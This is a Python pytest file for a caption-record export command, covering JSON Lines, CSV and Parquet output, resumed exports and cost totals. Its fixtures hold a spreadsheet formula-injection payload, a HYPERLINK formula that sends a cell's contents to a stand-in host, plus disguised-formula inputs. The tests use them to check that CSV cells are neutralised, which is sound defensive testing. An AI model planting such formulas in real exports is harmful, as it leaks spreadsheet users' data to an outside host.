"""`captions export`: records by day as JSON Lines, CSV and Parquet, read back; interrupted, and begun again."""

import csv
import json
import os
from collections.abc import Iterator
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest

from captions.records.spending import spending
from captions.records.table import Begun
from captions_cli import exporting
from captions_cli.errors import CommandError
from captions_cli.exporting import COLUMNS, ExportedDay, Scope
from support.api import NOW, Api, api_on
from support.pipeline import BUCKET, aws_for_the_pipeline

FORMULA = '=HYPERLINK("http://x/?"&A1,"dog")'
ATTEMPT: dict[str, Any] = {
    "model": "m",
    "outcome": "ok",
    "prompt_tokens": 700,
    "completion_tokens": 90,
    "cost": "0.000012345678",
}

LATER = {"started_at": "2026-11-01T10:00:00Z"}


@pytest.fixture(scope="module")
def api() -> Iterator[Api]:
    with aws_for_the_pipeline() as aws, api_on(aws) as made:
        for number in range(30):
            made.captioned(f"many/{number:02}.jpg", text=f"number {number}")
        made.captioned(
            "odd/=cmd.jpg", text=FORMULA, tags=("+1", "a,b"), language="de", attempts=(ATTEMPT,), cost=ATTEMPT["cost"],
            data={"alt_text": "a \u2028 dog", "n": 1},
        )  # fmt: skip
        made.failed("odd/failed.jpg")
        made.received("odd/pending.jpg")
        yield made


def stack(api: Api) -> Any:
    class Here:
        bucket, captions_table = BUCKET, "captions"

        @staticmethod
        def client(service: str) -> Any:
            return api.services.clients(service)

    return Here()


def run(api: Api, folder: Path, form: Any, **more: Any) -> list[ExportedDay]:
    first, last = (datetime.fromtimestamp(moment, UTC).date() for moment in (NOW, api.now[0]))
    return list(exporting.export(stack(api), folder, Scope("test", form, **more), first, last, now=api.now[0]))


def test_json_lines_hold_every_record_that_ended_once(api: Api, tmp_path: Path) -> None:
    days = run(api, tmp_path, "jsonl")
    rows = [json.loads(line) for day in days for line in Path(day.path).read_text().split("\n") if line]
    assert sum(day.rows or 0 for day in days) == len(rows) == 32
    assert {row["key"] for row in rows} == {f"many/{n:02}.jpg" for n in range(30)} | {"odd/=cmd.jpg", "odd/failed.jpg"}
    (odd,) = [row for row in rows if row["key"] == "odd/=cmd.jpg"]
    assert list(odd) == list(COLUMNS)
    assert (odd["text"], odd["tags"], odd["data"]["n"], odd["alt_text"]) == (FORMULA, ["+1", "a,b"], 1, "a \u2028 dog")
    assert (odd["dollars"], odd["prompt_tokens"], odd["calls"]) == ("0.000012345678", 700, 1)
    (failed,) = [row for row in rows if row["state"] == "failed"]
    assert (failed["reason"], failed["text"], failed["completed_at"] is not None) == ("gave_up", None, True)


def test_no_cell_of_a_csv_is_a_formula(api: Api, tmp_path: Path) -> None:
    days = run(api, tmp_path, "csv", prefix="odd/")
    rows: list[dict[str, str]] = []
    for day in days:
        with open(day.path, newline="", encoding="utf-8") as file:
            rows += csv.DictReader(file)
    odd = next(row for row in rows if row["state"] == "captioned")
    assert odd["text"] == f"'{FORMULA}"
    assert json.loads(odd["tags"]) == ["+1", "a,b"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
    assert len(rows) == 2


@pytest.mark.parametrize("text", ["\n=1+1", "\uff1d1+1", "\uff20SUM(A1)", "a\x00b\x1b[31m"])
def test_a_cell_of_a_csv_is_neither_a_formula_in_disguise_nor_a_control(text: str) -> None:
    cell = exporting._cell("text", text)
    assert cell.startswith("'") or "\x00" not in cell
    assert not any(ord(character) < 32 and character not in "\t\r\n" for character in cell)
    assert not cell.startswith(("=", "\n", "\uff1d", "\uff20"))


def test_a_row_group_of_parquet_holds_thousands_of_rows(
    api: Api, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exporting, "PAGE", 4)
    day = max(run(api, tmp_path, "parquet"), key=lambda day: day.rows or 0)
    assert (pq.ParquetFile(day.path).num_row_groups, day.rows) == (1, 32)
    monkeypatch.setattr(exporting, "GROUP_ROWS", 10)
    (day,) = (each for each in run(api, tmp_path / "small", "parquet") if each.rows)
    assert pq.ParquetFile(day.path).num_row_groups in (3, 4)
    assert pq.read_table(day.path).num_rows == 32


def test_parquet_has_types(api: Api, tmp_path: Path) -> None:
    days = run(api, tmp_path, "parquet", states=("captioned",))
    tables = [pq.read_table(day.path) for day in days]
    assert all(table.schema.names == list(COLUMNS) for table in tables)
    rows = [row for table in tables for row in table.to_pylist()]
    assert len(rows) == 31
    odd = next(row for row in rows if row["key"] == "odd/=cmd.jpg")
    assert odd["dollars"] == Decimal("0.000012345678")
    assert isinstance(odd["completed_at"], datetime)
    assert odd["completed_at"].tzinfo is not None
    assert (odd["tags"], json.loads(odd["data"])["n"], odd["text"]) == (["+1", "a,b"], 1, FORMULA)


def test_a_day_of_many_pages_is_never_held_whole(api: Api, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    written: list[int] = []
    opener = exporting.as_lines

    def watched(file: Any) -> Any:
        write = opener(file)

        def noted(rows: Any) -> Any:
            written.append(len(rows))
            return write(rows)

        return noted

    monkeypatch.setattr(exporting, "as_lines", watched)
    monkeypatch.setattr(exporting, "PAGE", 10)
    run(api, tmp_path, "jsonl")
    assert sum(written) == 32
    assert max(written) <= exporting.PAGE


def test_an_interrupted_export_goes_on_and_leaves_no_half_file(
    api: Api, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    read = exporting.pages

    def broken(*given: Any) -> Any:
        yield next(iter(read(*given)))
        raise KeyboardInterrupt

    today = datetime.fromtimestamp(api.now[0], UTC).date()
    scope = Scope("test", "jsonl")
    with monkeypatch.context() as patch:
        patch.setattr(exporting, "pages", broken)
        with pytest.raises(KeyboardInterrupt):
            list(exporting.export(stack(api), tmp_path, scope, today, today, now=api.now[0]))
    assert [path.name for path in tmp_path.iterdir()] == ["export.json"]
    over = datetime.combine(today, datetime.min.time(), UTC).timestamp() + 2 * 86_400
    (whole,) = exporting.export(stack(api), tmp_path, scope, today, today, now=over)
    (kept,) = exporting.export(stack(api), tmp_path, scope, today, today, now=over)
    assert (whole.rows is not None, kept.rows) == (True, None)
    (again,) = exporting.export(stack(api), tmp_path, scope, today, today, now=over, again=True)
    assert again.rows == whole.rows
    os.utime(whole.path, (api.now[0], api.now[0]))  # written while its day was not over
    (more,) = exporting.export(stack(api), tmp_path, scope, today, today, now=over)
    assert more.rows == whole.rows


def test_where_nothing_has_ended_yet_no_file_is_written_and_later_none_is_missing(api: Api, tmp_path: Path) -> None:
    first, last = (datetime.fromtimestamp(api.now[0] + days * 86_400, UTC).date() for days in (-30, 0))
    scope = Scope("test", "csv", "nowhere/")
    days = list(exporting.export(stack(api), tmp_path / "none", scope, first, last, now=api.now[0]))
    assert {day.rows for day in days} == {0}
    assert len(days) == 31
    assert [path.name for path in (tmp_path / "none").iterdir()] == ["export.json"]
    days = list(exporting.export(stack(api), tmp_path / "all", Scope("test", "csv"), first, last, now=api.now[0]))
    assert all(Path(day.path).exists() for day in days)


def test_a_folder_holds_one_export(api: Api, tmp_path: Path) -> None:
    run(api, tmp_path, "jsonl")
    with pytest.raises(CommandError, match="another export"):
        run(api, tmp_path, "jsonl", prefix="odd/")


def test_without_pyarrow_parquet_says_what_to_install(
    api: Api, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(__import__("sys").modules, "pyarrow.parquet", None)
    with pytest.raises(CommandError, match=r"media-captions\[parquet\]"):
        run(api, tmp_path, "parquet")
    assert list(tmp_path.iterdir()) == []


def test_unknown_costs_stay_beside_the_known_ones(api: Api) -> None:
    attempt = {"model": "m", "outcome": "ok", "prompt_tokens": 5, "completion_tokens": 2}
    row = exporting.row(api.captioned("unpriced.jpg", attempts=(attempt,)))
    assert (row["dollars"], row["uncounted_calls"], row["prompt_tokens"]) == ("0", 1, 5)


def test_what_was_paid_for_an_upload_that_went_while_it_was_captioned_once_more_is_exported(api: Api) -> None:
    record = api.captioned("gone.jpg", attempts=(ATTEMPT,), cost=ATTEMPT["cost"])
    again, now = api.records.recaption(record, "force", now=NOW + 60, due=NOW), NOW + 61
    assert again is not None
    lease = api.records.begin(again.upload, now=now, lease_until=now + 9)
    assert isinstance(lease, Begun)
    both = [*lease.record.attempts, ATTEMPT | LATER]
    api.records.release(again.upload, now + 9, now=now, due=now, attempts=both)
    later = again.upload.model_copy(update={"sequencer": "F" * 64})
    deleted = api.records.delete(later, now=now)
    assert deleted is not None
    row, (_, total) = exporting.row(deleted), spending([deleted], "day")
    assert (row["calls"], row["prompt_tokens"], Decimal(row["dollars"])) == (2, 1_400, total.cost.dollars)
    assert total.cost.dollars == 2 * Decimal(str(ATTEMPT["cost"]))
